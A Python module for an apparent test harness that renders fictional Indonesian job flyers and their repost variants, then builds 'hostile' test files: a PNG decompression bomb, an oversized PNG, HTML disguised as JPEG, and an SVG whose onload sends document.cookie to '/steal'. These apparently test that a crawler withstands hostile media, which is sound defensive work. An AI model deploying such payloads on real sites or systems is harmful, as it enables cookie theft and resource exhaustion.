"""Images of the demo internet: flyers rendered from fictional offers, their reposted variations,
stock photos for photo posts, and hostile files for the ``hostile`` fault.

Flyers are drawn with Pillow in Debian's DejaVu fonts (``fonts-dejavu-core``; Pillow's own font
where those are missing), Indonesian text, and the emoji-like symbols DejaVu has (✈ ☎ ✔ ★ •). Each
flyer is reposted with variations the way recruiters repost: resized, recompressed, cropped a
little, re-watermarked, mirrored. Everything is deterministic and rendered on first request.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

from PIL import Image, ImageDraw, ImageFont, ImageOps

FONT_DIR = Path("/usr/share/fonts/truetype/dejavu")
WIDTH, HEIGHT = 800, 1000
MARGIN = 48


@cache
def font(size: int, bold: bool = False) -> ImageFont.FreeTypeFont | ImageFont.ImageFont:
    name = "DejaVuSans-Bold.ttf" if bold else "DejaVuSans.ttf"
    try:
        return ImageFont.truetype(str(FONT_DIR / name), size)
    except OSError:  # no DejaVu here: Pillow's bundled font still draws readable text
        return ImageFont.load_default(size)


def _fit(draw: ImageDraw.ImageDraw, text: str, size: int, bold: bool, width: int) -> Any:
    while size > 12 and draw.textlength(text, font=font(size, bold)) > width:
        size -= 2
    return font(size, bold)


def flyer_text(flyer: dict[str, Any]) -> str:
    """The text printed on the flyer, line by line (the OCR ground truth)."""
    return "\n".join([*flyer["headline"], *flyer["lines"], flyer["footer"]])


def _tint(colour: str, share: float) -> tuple[int, int, int]:
    r, g, b = (int(colour[i : i + 2], 16) for i in (1, 3, 5))
    return (int(r + (255 - r) * share), int(g + (255 - g) * share), int(b + (255 - b) * share))


def render_flyer(flyer: dict[str, Any]) -> Image.Image:
    """One flyer; its layout (header height, shapes behind the text, alignment) follows from its id,
    so that different flyers differ as much in shape as real ones do."""
    accent, paper, ink = flyer["palette"]
    rng = random.Random(flyer["id"])  # noqa: S311 - demo drawings, not secrets
    image = Image.new("RGB", (WIDTH, HEIGHT), paper)
    draw = ImageDraw.Draw(image)
    for _ in range(3):  # large soft shapes behind the text
        x, y, r = rng.randrange(0, WIDTH), rng.randrange(250, HEIGHT), rng.randrange(120, 320)
        box = (x - r, y - r, x + r, y + r)
        tint = _tint(accent, rng.uniform(0.55, 0.8))
        (draw.ellipse if rng.random() < 0.5 else draw.rectangle)(box, fill=tint)
    header = rng.randrange(220, 320)
    draw.rectangle((0, 0, WIDTH, header), fill=accent)
    centred = rng.random() < 0.5
    y = header // 2 - 45 * len(flyer["headline"]) + 10
    for line in flyer["headline"]:
        face = _fit(draw, line, 64, True, WIDTH - 2 * MARGIN)
        draw.text((WIDTH / 2, y), line, font=face, fill="white", anchor="ma")
        y += 90
    y = header + 50
    step = (HEIGHT - 170 - y) // max(1, len(flyer["lines"]))
    for line in flyer["lines"]:
        face = _fit(draw, line, 38, False, WIDTH - 2 * MARGIN)
        if centred:
            draw.text((WIDTH / 2, y), line, font=face, fill=ink, anchor="ma")
        else:
            draw.text((MARGIN, y), line, font=face, fill=ink)
        y += step
    draw.rectangle((0, HEIGHT - 130, WIDTH, HEIGHT), fill=accent)
    face = _fit(draw, flyer["footer"], 40, True, WIDTH - 2 * MARGIN)
    draw.text((WIDTH / 2, HEIGHT - 88), flyer["footer"], font=face, fill="white", anchor="ma")
    return image


def _watermark(image: Image.Image, text: str, corner: str) -> Image.Image:
    layer = Image.new("RGBA", image.size, (0, 0, 0, 0))
    draw = ImageDraw.Draw(layer)
    face = font(max(14, image.size[0] // 30), True)
    box = draw.textbbox((0, 0), text, font=face)
    x = 12 if corner == "left" else image.size[0] - (box[2] - box[0]) - 12
    draw.text((x, image.size[1] - (box[3] - box[1]) - 150), text, font=face, fill=(0, 0, 0, 110))
    return Image.alpha_composite(image.convert("RGBA"), layer).convert("RGB")


def _crop(image: Image.Image, share: float) -> Image.Image:
    w, h = image.size
    dx, dy = int(w * share), int(h * share)
    return image.crop((dx, dy, w - dx, h - dy))


# name -> (transform, JPEG quality): how each repost differs from the original.
VARIANTS: dict[str, tuple[Callable[[Image.Image], Image.Image], int]] = {
    "original": (lambda im: im, 92),
    "resized": (lambda im: im.resize((440, 550), Image.Resampling.LANCZOS), 80),
    "resized_small": (lambda im: im.resize((360, 450), Image.Resampling.LANCZOS), 70),
    "recompressed": (lambda im: im, 35),
    "cropped": (lambda im: _crop(im, 0.03), 85),
    "watermarked": (lambda im: _watermark(im, "pasarloka.demo", "right"), 75),
    "rewatermarked": (lambda im: _watermark(im, "grup info loker LN", "left"), 75),
    "mirrored": (lambda im: _watermark(ImageOps.mirror(im), "repost", "left"), 80),
}


def jpeg(image: Image.Image, quality: int) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", quality=quality, optimize=True)
    return out.getvalue()


@cache
def flyer_bytes(flyer_id: str, variant: str, flyers_key: int) -> bytes:
    flyer = _FLYERS[flyers_key][flyer_id]
    transform, quality = VARIANTS[variant]
    return jpeg(transform(render_flyer(flyer)), quality)


_FLYERS: dict[int, dict[str, dict[str, Any]]] = {}


def register(flyers: list[dict[str, Any]]) -> int:
    """Make ``flyers`` servable; return the key ``flyer_bytes`` takes."""
    key = id(flyers)
    _FLYERS[key] = {f["id"]: f for f in flyers}
    return key


@cache
def stock_photo(seed: str) -> bytes:
    """A photo without text for ordinary photo posts: sky, hills, sun; different for each seed."""
    rng = random.Random(seed)  # noqa: S311 - demo drawings, not secrets
    image = Image.new("RGB", (640, 480))
    draw = ImageDraw.Draw(image)  # drawn at 640x480, served at 480x360 (a preview's size)
    top = (rng.randrange(60, 140), rng.randrange(120, 200), rng.randrange(200, 255))
    for y in range(480):
        shade = y / 480
        draw.line((0, y, 640, y), fill=tuple(int(c * (1 - shade * 0.5)) for c in top))
    sun = (rng.randrange(60, 580), rng.randrange(40, 200))
    draw.ellipse((sun[0] - 40, sun[1] - 40, sun[0] + 40, sun[1] + 40), fill=(255, 214, 90))
    for _ in range(rng.randrange(2, 5)):
        x = rng.randrange(-200, 640)
        h = rng.randrange(200, 380)
        colour = (rng.randrange(20, 90), rng.randrange(90, 160), rng.randrange(20, 80))
        draw.polygon(
            [(x, 480), (x + rng.randrange(150, 400), h), (x + rng.randrange(400, 800), 480)],
            fill=colour,
        )
    return jpeg(image.resize((480, 360), Image.Resampling.LANCZOS), 85)


@cache
def placeholder() -> bytes:
    """The classifieds site's "no photo" image: one flat grey, never a flyer."""
    out = io.BytesIO()
    Image.new("RGB", (400, 300), (224, 224, 224)).save(out, "PNG")
    return out.getvalue()


# --- hostile files (the ``hostile`` fault) --------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def decompression_bomb(side: int = 30_000) -> bytes:
    """A valid 1-bit PNG of side x side white pixels: ~100 KB that would decode to 900 Mpixels."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = b"\x00" + b"\xff" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


@cache
def huge_image(megabytes: int = 50) -> bytes:
    """A real PNG of about ``megabytes`` MB (noise does not compress)."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5) + 1
    noise = random.Random(7).randbytes(side * side * 3)  # noqa: S311 - demo drawings, not secrets
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), noise).save(out, "PNG", compress_level=0)
    return out.getvalue()


SCRIPTED_SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" '
    b'onload="fetch(\'/steal?c=\'+document.cookie)"><script>alert("patroli demo: hostile svg")'
    b'</script><text x="20" y="150">LOKER KAMBOJA WA 0812-5550-0000</text></svg>\n'
)
NOT_AN_IMAGE = (
    b"<!DOCTYPE html><html><body><h1>Bukan gambar</h1><p>served as image/jpeg</p></body></html>\n"
)

# name -> (bytes factory, Content-Type the hostile server claims)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.png": (decompression_bomb, "image/png"),
    "script.svg": (lambda: SCRIPTED_SVG, "image/svg+xml"),
    "huge.png": (huge_image, "image/png"),
    "fake.jpg": (lambda: NOT_AN_IMAGE, "image/jpeg"),
}
